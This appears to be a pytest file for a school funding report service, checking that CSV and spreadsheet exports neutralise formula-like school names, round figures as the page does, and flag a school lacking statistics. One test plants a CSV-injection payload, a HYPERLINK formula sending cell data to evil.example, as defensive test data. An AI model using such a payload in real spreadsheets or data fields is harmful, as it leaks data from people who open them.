"""The reports stay correct whatever the schools' data holds: a school's name that a
spreadsheet would run as a formula, figures written as the page rounds them, and a
school with awards but no statistics for the year, counted and flagged rather than lost."""

import csv
import io
import re
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from funding.workflow import AWARDED
from reports import services
from reports.models import ReportKind, ScopeKind
from reports.queries import YearWindow
from tests.factories import FundingStreamFactory, SchoolFactory, SchoolYearStatsFactory
from tests.reports.conftest import make_request


def produce(kind, send_officer, monkeypatch):
    monkeypatch.setattr(services, "enqueue", lambda run_id: None)
    run = services.request_report(
        user=send_officer,
        kind=kind,
        scope_kind=ScopeKind.COUNTY,
        scope_id=None,
        academic_year=2025,
        national_ehcp_pct="1.5",
    )
    services.produce(run.pk)
    run.refresh_from_db()
    return run


# The decimal places the page shows each kind of figure with (shares are fractions
# shown as percentages to one place).
PLACES = {"pct": 1, "share": 3, "rate": 2, "ratio": 2, "index": 2}


def csv_rows(run) -> list[dict]:
    return list(csv.DictReader(io.StringIO(run.open_file("csv").read().decode("utf-8-sig"))))


@pytest.mark.parametrize("kind", [ReportKind.INCLUSIVENESS, ReportKind.FAIR_SHARE])
def test_a_school_named_like_a_formula_is_plain_text_in_the_csv_and_the_spreadsheet(
    small_county, send_officer, monkeypatch, kind
):
    link = '=HYPERLINK("https://evil.example/?x="&A1,"Click")'
    school = small_county["schools"]["A1"]
    school.name = link
    school.save()
    cluster_b = small_county["clusters"]["B"]
    cluster_b.name = "\tTabbed cluster"
    cluster_b.save()
    b2 = small_county["schools"]["B2"]
    b2.name = "@SUM(1+1)"
    b2.save()

    run = produce(kind, send_officer, monkeypatch)

    names = {r["Name"] for r in csv_rows(run)}
    assert "'" + link in names and "'@SUM(1+1)" in names and "'\tTabbed cluster" in names
    assert not any(n[:1] in "=+-@\t\r" for n in names)
    wb = load_workbook(run.open_file("xlsx"))
    for sheet in wb.worksheets[1:]:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula"
    schools = [c.value for c in wb["Schools"]["A"]]
    assert "'" + link in schools and "'@SUM(1+1)" in schools


@pytest.mark.parametrize("kind", [ReportKind.INCLUSIVENESS, ReportKind.FAIR_SHARE])
def test_the_csv_writes_each_figure_rounded_as_the_page_shows_it(
    small_county, send_officer, monkeypatch, kind
):
    run = produce(kind, send_officer, monkeypatch)
    rows = csv_rows(run)
    checked = 0
    for _key, label, fmt in run.result["columns"]:
        if fmt not in PLACES:
            continue
        for r in rows:
            text = r.get(label)
            if not text:
                continue
            assert re.fullmatch(rf"-?\d+(\.\d{{1,{PLACES[fmt]}}})?", text), (label, text)
            checked += 1
    assert checked > 20
    if kind == ReportKind.INCLUSIVENESS:  # A1's index is +0.50... on the page: 0.5 in the CSV
        a1 = next(r for r in rows if r["Name"] == "A1 Primary")
        page = next(r for r in run.result["sections"][0]["rows"] if r["name"] == "A1 Primary")
        assert float(a1["Inclusiveness index"]) == round(page["index"], 2)


@pytest.fixture
def school_without_statistics(small_county):
    """C1 joined Alpha this year: £5,000 awarded, statistics only for the year before."""
    c1 = SchoolFactory(name="C1 Primary", cluster=small_county["clusters"]["A"])
    SchoolYearStatsFactory(school=c1, academic_year=2024)
    make_request(c1, "approved", "5000.00")
    return c1


def ledger_commitments(small_county) -> Decimal:
    """The award of every request approved in the year, committed on its cluster's budget
    (as an approval does) and summed from the ledger."""
    budgets = pytest.importorskip("budgets.models")
    from funding.models import FundingRequest

    year = budgets.FinancialYear.objects.create(start_year=2025)
    stream = FundingStreamFactory()
    for cluster in small_county["clusters"].values():
        budget = budgets.ClusterBudget.objects.create(cluster=cluster, stream=stream, year=year)
        for r in FundingRequest.objects.filter(
            school__cluster=cluster,
            state__in=AWARDED,
            submitted_at__gte=YearWindow(2025).start,
            submitted_at__lt=YearWindow(2025).end,
        ):
            budgets.LedgerEntry.objects.create(
                budget=budget,
                kind="commitment",
                amount=r.amount_awarded,
                request=r,
                school=r.school,
                reason="Award on approval",
            )
    return sum(
        budgets.LedgerEntry.objects.filter(kind="commitment").values_list("amount", flat=True),
        Decimal(0),
    )


@pytest.mark.parametrize("kind", [ReportKind.INCLUSIVENESS, ReportKind.FAIR_SHARE])
def test_a_school_with_awards_but_no_statistics_is_in_the_report_flagged_and_in_its_totals(
    small_county, school_without_statistics, send_officer, monkeypatch, kind
):
    committed = ledger_commitments(small_county)
    assert committed == Decimal("25000.00")

    run = produce(kind, send_officer, monkeypatch)

    rows = csv_rows(run)
    c1 = next(r for r in rows if r["Name"] == "C1 Primary")
    assert c1["Note"] == "No statistics for 2025/26"
    assert c1["£ awarded"] == "5000.00"
    total = next(r for r in rows if r["Level"] == "total")
    assert Decimal(total["£ awarded"]) == committed
    alpha = next(r for r in rows if r["Level"] == "cluster" and r["Name"] == "Alpha")
    assert Decimal(alpha["£ awarded"]) == Decimal("17000.00")  # A1 10,000, A2 2,000, C1 5,000
    assert Decimal(run.result["total_awarded"]) == committed
    summary = {s[0]: s[1] for s in run.result["summary"]}
    assert summary["Schools"] == 5
    assert summary["Schools with no statistics for 2025/26"] == 1
    # Its figures are not made up: no rates, no share of need, no index.
    school = next(r for r in run.result["sections"][0]["rows"] if r["name"] == "C1 Primary")
    for key in ("ehcp_pct", "need_share", "index", "notional_shortfall"):
        assert school.get(key) is None
    html = run.open_file("html").read().decode()
    assert "No statistics for 2025/26" in html
    shown = re.search(r'data-testid="total-awarded">£([\d,.]+)<', html).group(1)
    assert Decimal(shown.replace(",", "")) == committed
    wb = load_workbook(run.open_file("xlsx"))
    assert any(row[0] == "C1 Primary" for row in wb["Schools"].iter_rows(values_only=True))


def test_the_other_schools_figures_are_as_without_it(small_county, school_without_statistics):
    """C1's missing statistics change no other school's rates, shares or index."""
    run = services.request_report(
        user=None,
        kind=ReportKind.INCLUSIVENESS,
        scope_kind=ScopeKind.COUNTY,
        scope_id=None,
        academic_year=2025,
        queue=False,
    )
    result, _ = services.compute(run)
    a1 = next(r for r in result["sections"][0]["rows"] if r["name"] == "A1 Primary")
    assert a1["cluster_sen_support_pct"] == pytest.approx(100 * 60 / 500)
    assert a1["county_ehcp_pct"] == pytest.approx(100 * 17 / 1000)
